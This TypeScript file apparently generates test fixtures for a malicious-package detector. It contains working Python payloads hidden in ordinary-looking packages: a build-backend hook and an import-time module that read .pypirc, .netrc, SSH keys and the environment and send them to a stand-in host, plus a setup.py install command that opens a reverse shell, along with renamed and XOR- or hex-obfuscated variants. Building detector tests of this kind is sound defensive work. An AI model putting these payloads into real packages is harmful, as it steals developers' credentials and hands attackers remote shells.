import { casesOf } from '../case';
import { builtinsHex, execXor, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const beacon = (host: string) => `import getpass, json, os, pathlib, socket, urllib.request
secrets = {}
for name in (".pypirc", ".netrc", ".ssh/id_rsa"):
    try:
        secrets[name] = (pathlib.Path.home() / name).read_text()
    except OSError:
        pass
body = json.dumps({"user": getpass.getuser(), "host": socket.gethostname(), "secrets": secrets, "env": dict(os.environ)})
try:
    urllib.request.urlopen("https://${host}/build", body.encode(), timeout=5)
except OSError:
    pass
`;

const backend = (code: string) => `"""Builds this project."""

from setuptools import build_meta as _original
from setuptools.build_meta import *  # noqa: F401,F403


def _stamp():
${code
  .trimEnd()
  .split('\n')
  .map((line) => `    ${line}`)
  .join('\n')}


def get_requires_for_build_wheel(config_settings=None):
    _stamp()
    return _original.get_requires_for_build_wheel(config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _stamp()
    return _original.build_wheel(wheel_directory, config_settings, metadata_directory)
`;

const pyproject = (module: string, path: string) =>
  `[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "${module}"\nbackend-path = ["${path}"]\n`;

const ABOUT = 'Versions from tags.';
const HOST = 'build-stamp.invalid';

export const buildBackend = casesOf({
  id: 'kind-build-backend',
  incident: 'kind',
  kind: 'setup-py',
  seen: 'a build backend inside the sdist sends credentials while the wheel is built; there is no setup.py',
  replica: sdistOf('tag-versions', '3.1.0', {
    about: ABOUT,
    setup: '',
    pyproject: pyproject('build_tags', '_build'),
    files: { '_build/build_tags.py': backend(beacon(HOST)) },
  }),
  renamed: sdistOf('release-stamps', '0.6.2', {
    about: 'Stamps for releases.',
    setup: '',
    pyproject: pyproject('backend.main', 'tools'),
    files: {
      'tools/backend/__init__.py': '',
      'tools/backend/main.py': renamed(backend(beacon('stamp-check.invalid')), {
        _stamp: '_prepare',
        _original: '_meta',
        secrets: 'found',
        body: 'message',
      }),
    },
  }),
  reObfuscated: sdistOf('tag-versions', '3.1.1', {
    about: ABOUT,
    setup: '',
    pyproject: pyproject('build_tags', '_build'),
    files: { '_build/build_tags.py': backend(builtinsHex(beacon(HOST))) },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'a module of the wheel sends credentials when it is imported',
    sample: wheelOf('tag-versions', '3.1.2', {
      about: ABOUT,
      init: (honest) => `${honest}\nfrom . import _stamp as _stamp\n`,
      files: { 'tag_versions/_stamp.py': execXor(beacon(HOST), 77) },
    }),
  },
});

/** A command of setup.py that runs on install, as most name squats have it. */
export const setupCommand = casesOf({
  id: 'kind-setup-py',
  incident: 'kind',
  kind: 'setup-py',
  seen: 'a class for the install command in setup.py opens a reverse shell after the installation',
  replica: sdistOf('log-shipper-lite', '1.0.3', {
    about: 'Ships logs.',
    setup: (honest) => withCommand(honest, shell('shipper-c2.invalid', 4444)),
  }),
  renamed: sdistOf('event-forwarder-kit', '2.2.0', {
    about: 'Forwards events.',
    setup: (honest) =>
      renamed(withCommand(honest, shell('fwd.invalid', 8443)), {
        PostInstall: 'CustomInstall',
        connection: 'link',
        after: 'finish',
      }),
  }),
  reObfuscated: sdistOf('log-shipper-lite', '1.0.4', {
    about: 'Ships logs.',
    setup: (honest) => withCommand(honest, execXor(shell('shipper-c2.invalid', 4444), 19)),
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'importing the package opens a reverse shell in a thread',
    sample: wheelOf('log-shipper-lite', '1.0.5', {
      about: 'Ships logs.',
      init: (honest) => `${honest}

def _ship():
${indent(shell('shipper-c2.invalid', 4444))}


import threading

threading.Thread(target=_ship, daemon=True).start()
`,
    }),
  },
});

function shell(host: string, port: number): string {
  return `import os, pty, socket
connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    connection.connect(("${host}", ${port}))
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    pty.spawn("/bin/sh")
except OSError:
    pass
`;
}

function indent(code: string, by = '    '): string {
  return code
    .trimEnd()
    .split('\n')
    .map((line) => by + line)
    .join('\n');
}

function withCommand(honest: string, code: string): string {
  return honest
    .replace(
      /^.*\n/,
      (line) => `${line}from setuptools.command.install import install


class PostInstall(install):
    """Finishes the installation."""

    def run(self):
        install.run(self)
        self.after()

    def after(self):
${indent(code, '        ')}

`,
    )
    .replace('python_requires', 'cmdclass={"install": PostInstall},\n    python_requires');
}
